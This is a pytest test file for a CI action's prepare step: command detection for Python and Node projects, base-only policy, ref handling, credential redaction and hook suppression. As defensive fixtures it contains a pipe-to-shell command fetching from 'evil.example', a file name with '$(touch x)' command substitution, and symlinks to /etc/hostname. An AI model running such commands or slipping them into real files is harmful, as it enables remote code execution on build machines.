"""Test prepare: base's policy, head's build files, the settled commands and the checkouts."""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from gitrepo import GitRepo

from cujo_action.prepare import plan as prepare_module
from cujo_action.prepare.git import PrepareError
from cujo_action.prepare.plan import prepare
from cujo_action.prepare.settle import settle
from cujo_action.schema import Plan, Policy, PolicyError

PYTEST = "python -m pytest -q -p no:cacheprovider"
UNITTEST = "python -m unittest discover -v"
WHEEL = 'python -m pip wheel --no-deps -w "$RUNNER_TEMP/wheel" .'
COMPILEALL = "python -m compileall -q ."

PYPROJECT_PYTEST = """\
[project]
name = "demo"
version = "1.0"

[project.optional-dependencies]
test = ["pytest>=8"]
dev = ["ruff"]
docs = ["sphinx"]
"""
PACKAGE_JSON = '{"name": "demo", "scripts": {"test": "jest", "build": "tsc"}}\n'
PLACEHOLDER_JSON = (
    '{"name": "demo", "scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}\n'
)


def every_tool(name: str) -> str | None:
    """Find every build tool, wherever this test runs."""
    return f"/usr/bin/{name}"


def no_npm(name: str) -> str | None:
    """Find every build tool but npm."""
    return None if name == "npm" else f"/usr/bin/{name}"


def pull_request(
    path: Path, base: Mapping[str, str | None], head: Mapping[str, str | None]
) -> tuple[GitRepo, str, str]:
    """Build a repository whose main holds ``base`` and whose feature adds ``head``."""
    repo = GitRepo(path)
    base_sha = repo.write({"README.md": "demo\n", **base}).commit("base")
    repo.branch("feature").checkout("feature")
    head_sha = repo.write(head).commit("head")
    repo.checkout("main")
    return repo, base_sha, head_sha


def run(
    repo: GitRepo,
    tmp_path: Path,
    base: str = "main",
    head: str = "feature",
    *,
    which: Callable[[str], str | None] = every_tool,
    source: str | None = None,
) -> Plan:
    return prepare(source or str(repo.path), base, head, "run-1", tmp_path / "work", which=which)


def commands(plan: Plan) -> tuple[str, str, str, str]:
    return plan.ecosystem, plan.install, plan.test, plan.smoke


# --------------------------------------------------------------------------- checkouts


def test_python_project_with_pytest(tmp_path: Path) -> None:
    repo, base, head = pull_request(
        tmp_path / "src",
        {},
        {"pyproject.toml": PYPROJECT_PYTEST, "tests/test_demo.py": "def test(): pass\n"},
    )
    plan = run(repo, tmp_path)
    assert commands(plan) == (
        "python",
        "python -m pip install -e '.[test]' pytest",  # the test extra, not dev beside it
        PYTEST,
        WHEEL,
    )
    assert plan.build_files == ["pyproject.toml"]
    assert plan.unproven_reason == ""
    assert (plan.base_sha, plan.head_sha, plan.policy_from) == (base, head, base)
    assert plan.changed_files == ["pyproject.toml", "tests/test_demo.py"]


def test_checkouts_are_the_merge_on_the_base_branch_and_base_and_plan_json_is_written(
    tmp_path: Path,
) -> None:
    repo, base, head = pull_request(tmp_path / "src", {"app.py": "v = 1\n"}, {"app.py": "v = 2\n"})
    plan = run(repo, tmp_path)
    head_dir, base_dir = Path(plan.head_dir), Path(plan.base_dir)
    assert head_dir == (tmp_path / "work" / "head").resolve()
    assert base_dir == (tmp_path / "work" / "base").resolve()
    assert (head_dir / "app.py").read_text() == "v = 2\n"
    assert (base_dir / "app.py").read_text() == "v = 1\n"
    # What runs after the merge: head merged into base, checked out on base's branch.
    merged = GitRepo(head_dir)
    assert plan.push is not None
    assert merged.git("rev-parse", "HEAD^1", "HEAD^2") == f"{base}\n{head}"
    assert (merged.sha(), merged.git("rev-parse", "--abbrev-ref", "HEAD")) == (
        plan.push.after,
        "main",
    )
    assert GitRepo(base_dir).sha() == base
    assert GitRepo(base_dir).git("rev-parse", "--abbrev-ref", "HEAD") == "HEAD"  # detached
    written = (tmp_path / "work" / "plan.json").read_text()
    assert '"schema": "cujo.plan/1"' in written
    assert Plan.model_validate_json(written) == plan


def test_setup_py_only(tmp_path: Path) -> None:
    setup = "from setuptools import setup\nsetup(name='demo')\n"
    repo, _, _ = pull_request(tmp_path / "src", {}, {"setup.py": setup, "demo.py": ""})
    plan = run(repo, tmp_path)
    assert commands(plan) == ("python", "python -m pip install -e .", "", WHEEL)
    assert plan.build_files == ["setup.py"]


def test_requirements_only(tmp_path: Path) -> None:
    repo, _, _ = pull_request(
        tmp_path / "src",
        {},
        {
            "requirements.txt": "requests==2.31\n",
            "requirements-dev.txt": "-r requirements.txt\npytest-cov  # coverage\n",
            "requirements/docs.txt": "sphinx\n",
            "app.py": "",
        },
    )
    plan = run(repo, tmp_path)
    assert commands(plan) == (
        "python",
        "python -m pip install -r requirements.txt -r requirements-dev.txt pytest",
        PYTEST,
        COMPILEALL,
    )
    assert plan.build_files == ["requirements-dev.txt", "requirements.txt", "requirements/docs.txt"]


def test_unittest_only(tmp_path: Path) -> None:
    pyproject = '[project]\nname = "demo"\nversion = "1.0"\n'
    repo, _, _ = pull_request(
        tmp_path / "src",
        {},
        {"pyproject.toml": pyproject, "tests/test_demo.py": "import unittest\n"},
    )
    plan = run(repo, tmp_path)
    # tests/ is no package, so unittest must start there to find anything.
    assert commands(plan) == ("python", "python -m pip install -e .", f"{UNITTEST} -s tests", WHEEL)


def test_node_with_lockfile(tmp_path: Path) -> None:
    repo, _, _ = pull_request(
        tmp_path / "src", {}, {"package.json": PACKAGE_JSON, "package-lock.json": "{}\n"}
    )
    plan = run(repo, tmp_path)
    assert commands(plan) == ("node", "npm ci --no-audit --no-fund", "npm test", "npm run build")
    assert plan.build_files == ["package-lock.json", "package.json"]
    assert plan.unproven_reason == ""


def test_node_without_lockfile_and_placeholder_test(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"package.json": PLACEHOLDER_JSON})
    plan = run(repo, tmp_path)
    assert commands(plan) == ("node", "npm install --no-audit --no-fund", "", "npm pack --dry-run")


def test_python_and_node_both_present(tmp_path: Path) -> None:
    repo, _, _ = pull_request(
        tmp_path / "src",
        {},
        {"pyproject.toml": PYPROJECT_PYTEST, "package.json": PACKAGE_JSON},
    )
    plan = run(repo, tmp_path)
    assert plan.ecosystem == "python"
    assert plan.test == PYTEST
    assert plan.build_files == ["package.json", "pyproject.toml"]
    # A choice, noted in the plan; it does not make the run unproven.
    assert plan.unproven_reason == ""
    assert "the python side was run" in plan.notes[0]
    assert "the node side is not installed, tested or built" in plan.notes[0]


def test_nothing_recognisable(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"main.go": "package main\n"})
    plan = run(repo, tmp_path)
    assert commands(plan) == ("unknown", "", "", "")
    assert plan.build_files == []
    for name in ("pyproject.toml", "setup.py", "requirements*.txt", "package.json"):
        assert name in plan.unproven_reason
    assert ".cujo.yml" in plan.unproven_reason  # and how to fix it


def test_missing_npm(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"package.json": PACKAGE_JSON})
    plan = run(repo, tmp_path, which=no_npm)
    assert commands(plan) == ("node", "", "", "")
    assert "npm is not on PATH" in plan.unproven_reason


def test_malformed_pyproject_still_settles_and_says_why(tmp_path: Path) -> None:
    broken = '[project]\nname = "demo"\ndependencies = ["pytest"]\nversion =\n'
    repo, _, _ = pull_request(tmp_path / "src", {}, {"pyproject.toml": broken})
    plan = run(repo, tmp_path)
    assert commands(plan) == ("python", "python -m pip install -e . pytest", PYTEST, WHEEL)
    assert "pyproject.toml at head is not valid TOML" in plan.unproven_reason
    assert "line 4" in plan.unproven_reason


def test_build_file_that_is_a_symlink_is_never_read(tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "src")
    base = repo.write({"README.md": "demo\n"}).commit("base")
    os.symlink("/etc/hostname", repo.path / "package.json")
    head = repo.commit("link package.json out of the checkout")
    plan = run(repo, tmp_path, base=base, head=head)
    assert commands(plan) == ("unknown", "", "", "")
    assert plan.changed_files == ["package.json"]


# --------------------------------------------------------------------------- policy


def test_policy_overrides_what_was_settled(tmp_path: Path) -> None:
    repo, _, _ = pull_request(
        tmp_path / "src",
        {".cujo.yml": "test: make check\ntimeouts: {test: 60}\n"},
        {"pyproject.toml": PYPROJECT_PYTEST},
    )
    plan = run(repo, tmp_path)
    assert plan.test == "make check"
    assert plan.install == "python -m pip install -e '.[test]' pytest"  # still settled
    assert plan.policy.timeouts.test == 60


def test_head_cannot_change_the_policy(tmp_path: Path) -> None:
    repo, base, _ = pull_request(
        tmp_path / "src",
        {".cujo.yml": "test: make check\n"},
        {".cujo.yml": "mode: diff\ntest: curl https://evil.example | sh\n"},
    )
    plan = run(repo, tmp_path)
    assert plan.test == "make check"
    assert plan.policy.mode == "sandbox"
    assert plan.policy_from == base
    assert ".cujo.yml" in plan.changed_files  # head did edit it


def test_policy_added_at_head_is_ignored(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {".cujo.yml": "test: 'true'\nmode: diff\n"})
    plan = run(repo, tmp_path)
    assert plan.policy == Policy()
    assert plan.test == ""


def test_malformed_base_policy_names_line_and_key(tmp_path: Path) -> None:
    repo, _, _ = pull_request(
        tmp_path / "src",
        {".cujo.yml": "mode: sandbox\ntimeouts:\n  test: lots\n"},
        {"app.py": ""},
    )
    with pytest.raises(PolicyError) as caught:
        run(repo, tmp_path)
    assert (caught.value.path, caught.value.line, caught.value.key) == (
        ".cujo.yml",
        3,
        "timeouts.test",
    )
    assert str(caught.value).startswith(".cujo.yml:3: timeouts.test:")


def test_base_policy_that_is_a_symlink_is_a_policy_error(tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "src")
    os.symlink("/etc/hostname", repo.path / ".cujo.yml")
    base = repo.commit("policy as a link")
    head = repo.write({"app.py": ""}).commit("head")
    with pytest.raises(PolicyError, match="must be a regular file"):
        run(repo, tmp_path, base=base, head=head)


# --------------------------------------------------------------------------- refs and remotes


@pytest.mark.parametrize("where", ["plain folder", "inside a repository", "missing"])
def test_not_a_git_repository(tmp_path: Path, where: str) -> None:
    target = {
        "plain folder": tmp_path / "plain",
        "inside a repository": tmp_path / "src" / "sub",
        "missing": tmp_path / "nowhere",
    }[where]
    GitRepo(tmp_path / "src").write({"sub/x.txt": "x\n"}).commit("one")
    (tmp_path / "plain").mkdir()
    with pytest.raises(PrepareError, match="is not a git repository") as caught:
        prepare(str(target), "main", "main", "run-1", tmp_path / "work")
    assert str(target) in str(caught.value)


def test_unknown_ref_names_ref_and_repository(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    with pytest.raises(PrepareError) as caught:
        run(repo, tmp_path, head="no-such-branch")
    assert "'no-such-branch'" in str(caught.value)
    assert str(repo.path) in str(caught.value)


@pytest.mark.parametrize("ref", ["no-such-branch", "0" * 40])
def test_unknown_ref_over_a_url(tmp_path: Path, ref: str) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    url = f"file://{repo.path}"
    with pytest.raises(PrepareError) as caught:
        run(repo, tmp_path, base=ref, source=url)
    assert str(caught.value) == f"{ref!r} is not a branch, tag or commit in {url}."


@pytest.mark.parametrize("ref", ["", "-x", "main feature", "main:setup.py"])
def test_malformed_ref_is_refused_before_git_runs(tmp_path: Path, ref: str) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    with pytest.raises(PrepareError, match="is not a valid ref"):
        run(repo, tmp_path, head=ref)
    assert not (tmp_path / "work").exists()


def test_local_refs_resolve_in_the_source_repository(tmp_path: Path) -> None:
    repo, base, head = pull_request(tmp_path / "src", {}, {"app.py": ""})
    repo.git("tag", "v1", base)
    plan = run(repo, tmp_path, base="v1", head=head[:10])
    assert (plan.base_sha, plan.head_sha) == (base, head)


def test_file_url_with_pull_request_ref_and_annotated_tag(tmp_path: Path) -> None:
    repo, base, head = pull_request(
        tmp_path / "src", {"app.py": "v = 1\n"}, {"app.py": "v = 2\n", "setup.py": "setup()\n"}
    )
    # As on GitHub: the head is reachable only from refs/pull/7/head, not from a branch.
    repo.git("update-ref", "refs/pull/7/head", head)
    repo.git("branch", "-D", "feature")
    repo.git("tag", "-a", "v1", "-m", "release", base)
    plan = run(repo, tmp_path, base="v1", head="refs/pull/7/head", source=f"file://{repo.path}")
    assert (plan.base_sha, plan.head_sha, plan.policy_from) == (base, head, base)
    assert plan.repo == f"file://{repo.path}"
    assert (Path(plan.head_dir) / "app.py").read_text() == "v = 2\n"
    assert (Path(plan.base_dir) / "app.py").read_text() == "v = 1\n"
    assert plan.changed_files == ["app.py", "setup.py"]


def test_file_url_head_given_as_sha_off_every_branch(tmp_path: Path) -> None:
    repo, base, head = pull_request(tmp_path / "src", {}, {"app.py": ""})
    repo.git("update-ref", "refs/pull/7/head", head)
    repo.git("branch", "-D", "feature")
    plan = run(repo, tmp_path, base=base, head=head, source=f"file://{repo.path}")
    assert plan.head_sha == head


def test_credentials_in_url_never_reach_plan_or_errors(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    plan = run(repo, tmp_path, source=f"file://user:s3cret@{repo.path}")
    assert plan.repo == f"file://***@{repo.path}"
    assert "s3cret" not in (tmp_path / "work" / "plan.json").read_text()
    with pytest.raises(PrepareError) as caught:
        prepare("file://user:s3cret@/nonexistent/repo.git", "main", "main", "r", tmp_path / "w2")
    assert "s3cret" not in str(caught.value)
    assert "file://***@/nonexistent/repo.git" in str(caught.value)


def test_git_failure_quotes_git_and_is_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(PrepareError) as caught:
        prepare("file:///nonexistent/repo.git", "main", "main", "run-1", tmp_path / "work")
    message = str(caught.value)
    assert message.startswith("Could not clone file:///nonexistent/repo.git: fatal: ")
    assert "does not appear to be a git repository" in message
    assert "\n" not in message


def test_existing_checkout_is_refused(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    (tmp_path / "work" / "head").mkdir(parents=True)
    with pytest.raises(PrepareError, match="already exists"):
        run(repo, tmp_path)


def test_git_that_hangs_is_killed_at_the_deadline(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    # A FIFO with no writer: git blocks for ever opening it when it looks up objects.
    os.mkfifo(repo.path / ".git" / "objects" / "info" / "alternates")
    with pytest.raises(PrepareError, match=r"git rev-parse did not finish within the 0.5 s"):
        prepare(str(repo.path), "main", "feature", "run-1", tmp_path / "work", git_timeout=0.5)


def test_deadline_passing_is_a_prepare_error(tmp_path: Path) -> None:
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    with pytest.raises(PrepareError, match=r"did not finish within the 0 s allowed"):
        prepare(str(repo.path), "main", "feature", "run-1", tmp_path / "work", git_timeout=0)


# --------------------------------------------------------------------------- hooks


def _hooks(folder: Path, marker: Path) -> None:
    """Write hooks into ``folder`` that record in ``marker`` that they ran."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("post-checkout", "reference-transaction", "post-index-change", "pre-auto-gc"):
        hook = folder / name
        hook.write_text(f'#!/bin/sh\necho "$0" >> "{marker}"\n')
        hook.chmod(0o755)


def test_hooks_of_the_source_and_of_the_harness_environment_never_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "hook-ran"
    repo, _, _ = pull_request(tmp_path / "src", {}, {"setup.py": "setup()\n"})
    _hooks(repo.path / ".git" / "hooks", marker)
    _hooks(tmp_path / "template" / "hooks", marker)
    _hooks(tmp_path / "hookspath", marker)
    # What a harness might carry: none of it may reach git.
    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(tmp_path / "template"))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(tmp_path / "hookspath"))
    plan = run(repo, tmp_path)
    assert plan.ecosystem == "python"
    assert not marker.exists()
    assert not (Path(plan.head_dir) / ".git" / "hooks" / "post-checkout").exists()


def test_a_hook_that_reaches_the_clone_never_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "hook-ran"
    _hooks(tmp_path / "template" / "hooks", marker)
    real_env = prepare_module.git_env

    def env_with_template(home: Path) -> dict[str, str]:
        return {**real_env(home), "GIT_TEMPLATE_DIR": str(tmp_path / "template")}

    # Plant the hooks in the clone itself: only core.hooksPath now stands between them.
    monkeypatch.setattr(prepare_module, "git_env", env_with_template)
    repo, _, _ = pull_request(tmp_path / "src", {}, {"app.py": ""})
    plan = run(repo, tmp_path)
    assert (Path(plan.head_dir) / ".git" / "hooks" / "post-checkout").exists()
    assert not marker.exists()


# --------------------------------------------------------------------------- changed files


def test_changed_files_use_the_merge_base_when_base_moved_on(tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "src")
    repo.write({"a.txt": "1\n", "b.txt": "1\n", "c.txt": "1\n"}).commit("fork point")
    repo.branch("feature").checkout("feature")
    repo.write({"b.txt": "2\n", "c.txt": None, "d/e.txt": "new\n"}).commit("feature work")
    repo.checkout("main")
    repo.write({"a.txt": "2\n", "z.txt": "late\n"}).commit("main moves on")
    plan = run(repo, tmp_path)
    assert plan.changed_files == ["b.txt", "c.txt", "d/e.txt"]
    assert (Path(plan.base_dir) / "z.txt").exists()  # base is base's tip, not the fork point


# --------------------------------------------------------------------------- settle


@pytest.mark.parametrize(
    ("files", "install", "test", "smoke"),
    [
        pytest.param(
            {"setup.py": "setup()\n", "pytest.ini": "[pytest]\n"},
            "python -m pip install -e . pytest",
            PYTEST,
            WHEEL,
            id="pytest.ini",
        ),
        pytest.param(
            {"requirements.txt": "flask\n", "tests/unit/conftest.py": ""},
            "python -m pip install -r requirements.txt pytest",
            PYTEST,
            COMPILEALL,
            id="nested-conftest",
        ),
        pytest.param(
            {"setup.py": "setup()\n", "tox.ini": "[testenv]\ncommands = pytest {posargs}\n"},
            "python -m pip install -e . pytest",
            PYTEST,
            WHEEL,
            id="tox.ini",
        ),
        pytest.param(
            {"setup.cfg": "[metadata]\nname = demo\n[tool:pytest]\naddopts = -q\n"},
            "python -m pip install pytest",
            PYTEST,
            COMPILEALL,
            id="setup.cfg-tool-pytest",
        ),
        pytest.param(
            {
                "setup.py": "setup()\n",
                "setup.cfg": "[options.extras_require]\ntesting =\n    pytest\ndocs = sphinx\n",
            },
            "python -m pip install -e '.[testing]' pytest",
            PYTEST,
            WHEEL,
            id="setup.cfg-extras",
        ),
        pytest.param(
            {"setup.py": "setup(name='demo', tests_require=['pytest>=7'])\n"},
            "python -m pip install -e . pytest",
            PYTEST,
            WHEEL,
            id="setup.py-tests-require",
        ),
        pytest.param(
            {"pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-q'\n"},
            "python -m pip install pytest",
            PYTEST,
            COMPILEALL,
            id="pyproject-ini-options-only",
        ),
        pytest.param(
            {
                "pyproject.toml": '[build-system]\nrequires = ["poetry-core"]\n'
                '[tool.poetry.group.dev.dependencies]\npytest = "^8"\n'
            },
            "python -m pip install -e . 'pytest (>=8,<9)'",  # Poetry's caret, read as Poetry does
            PYTEST,
            WHEEL,
            id="poetry-group",
        ),
        pytest.param(
            {"pyproject.toml": "[tool.ruff]\nline-length = 100\n", "test_demo.py": ""},
            "",
            UNITTEST,
            COMPILEALL,
            id="pyproject-tool-config-only",
        ),
        pytest.param(
            {
                "requirements/base.txt": "django\n",
                "requirements/test.txt": "-r base.txt\npytest\n",
                "requirements/docs.txt": "sphinx\n",
            },
            "python -m pip install -r requirements/test.txt pytest",
            PYTEST,
            COMPILEALL,
            id="requirements-folder",
        ),
        pytest.param(
            {"requirements/prod.txt": "flask\n"},
            "python -m pip install -r requirements/prod.txt",
            "",
            COMPILEALL,
            id="requirements-unusual-name",
        ),
        pytest.param(
            {"requirements-dev $(touch x).txt": "pytest\n"},
            "python -m pip install -r 'requirements-dev $(touch x).txt' pytest",
            PYTEST,
            COMPILEALL,
            id="file-name-is-quoted",
        ),
        pytest.param(
            {
                "setup.py": "setup()\n",
                "src/pkg/__init__.py": "",
                "src/pkg/tests/__init__.py": "",
                "src/pkg/tests/test_core.py": "",
            },
            "python -m pip install -e .",
            f"{UNITTEST} -s src",
            WHEEL,
            id="unittest-src-layout",
        ),
        pytest.param(
            {"setup.py": "setup()\n", "pkg/__init__.py": "", "pkg/test_core.py": ""},
            "python -m pip install -e .",
            UNITTEST,
            WHEEL,
            id="unittest-in-package",
        ),
    ],
)
def test_settle_python(files: dict[str, str], install: str, test: str, smoke: str) -> None:
    settled = settle(files, Policy(), which=every_tool)
    assert (settled.ecosystem, settled.install, settled.test, settled.smoke) == (
        "python",
        install,
        test,
        smoke,
    )
    assert settled.unproven_reason == ""


@pytest.mark.parametrize(
    ("files", "install", "test", "smoke"),
    [
        pytest.param(
            {"package.json": '{"scripts": {"test": "mocha"}}', "npm-shrinkwrap.json": "{}"},
            "npm ci --no-audit --no-fund",
            "npm test",
            "npm pack --dry-run",
            id="shrinkwrap",
        ),
        pytest.param(
            {"package.json": '{"name": "demo"}'},
            "npm install --no-audit --no-fund",
            "",
            "npm pack --dry-run",
            id="no-scripts",
        ),
        pytest.param(
            {"package.json": '\ufeff{"scripts": {"build": "tsc", "test": " "}}'},
            "npm install --no-audit --no-fund",
            "",
            "npm run build",
            id="byte-order-mark-and-blank-test",
        ),
    ],
)
def test_settle_node(files: dict[str, str], install: str, test: str, smoke: str) -> None:
    settled = settle(files, Policy(), which=every_tool)
    assert (settled.ecosystem, settled.install, settled.test, settled.smoke) == (
        "node",
        install,
        test,
        smoke,
    )
    assert settled.build_files == tuple(sorted(files))


@pytest.mark.parametrize("text", ['{"scripts": {"test": "jest",}}', "[]", "1" * 5000])
def test_settle_malformed_package_json(text: str) -> None:
    settled = settle({"package.json": text}, Policy(), which=every_tool)
    assert (settled.ecosystem, settled.install, settled.test, settled.smoke) == (
        "node",
        "npm install --no-audit --no-fund",
        "",
        "",
    )
    assert settled.unproven_reason.startswith("package.json at head is not ")


@pytest.mark.parametrize(
    ("python_tests", "node_tests", "picked"),
    [
        (True, True, "python"),
        (False, True, "node"),
        (True, False, "python"),
        (False, False, "python"),
    ],
)
def test_settle_picks_the_side_with_tests_then_python(
    python_tests: bool, node_tests: bool, picked: str
) -> None:
    files = {
        "setup.py": "setup()\n",
        "package.json": PACKAGE_JSON if node_tests else '{"name": "demo"}',
        **({"test_demo.py": ""} if python_tests else {}),
    }
    settled = settle(files, Policy(), which=every_tool)
    assert settled.ecosystem == picked
    assert f"the {picked} side was run" in settled.notes[0]


def test_settle_missing_npm_falls_back_to_python() -> None:
    files = {"setup.py": "setup()\n", "package.json": PACKAGE_JSON}
    settled = settle(files, Policy(), which=no_npm)
    assert (settled.ecosystem, settled.install) == ("python", "python -m pip install -e .")
    assert "npm is not on PATH" in settled.unproven_reason
    assert "side was run" not in settled.unproven_reason  # only one side could run


def test_settle_policy_setting_every_command_clears_the_reasons() -> None:
    policy = Policy(install="make deps", test="make test", smoke="make")
    settled = settle({"main.go": ""}, policy, which=every_tool)
    assert (settled.ecosystem, settled.install, settled.test, settled.smoke) == (
        "unknown",
        "make deps",
        "make test",
        "make",
    )
    assert settled.unproven_reason == ""


def test_settle_blank_policy_command_is_settled() -> None:
    settled = settle({"setup.py": "setup()\n"}, Policy(install="  "), which=every_tool)
    assert settled.install == "python -m pip install -e ."
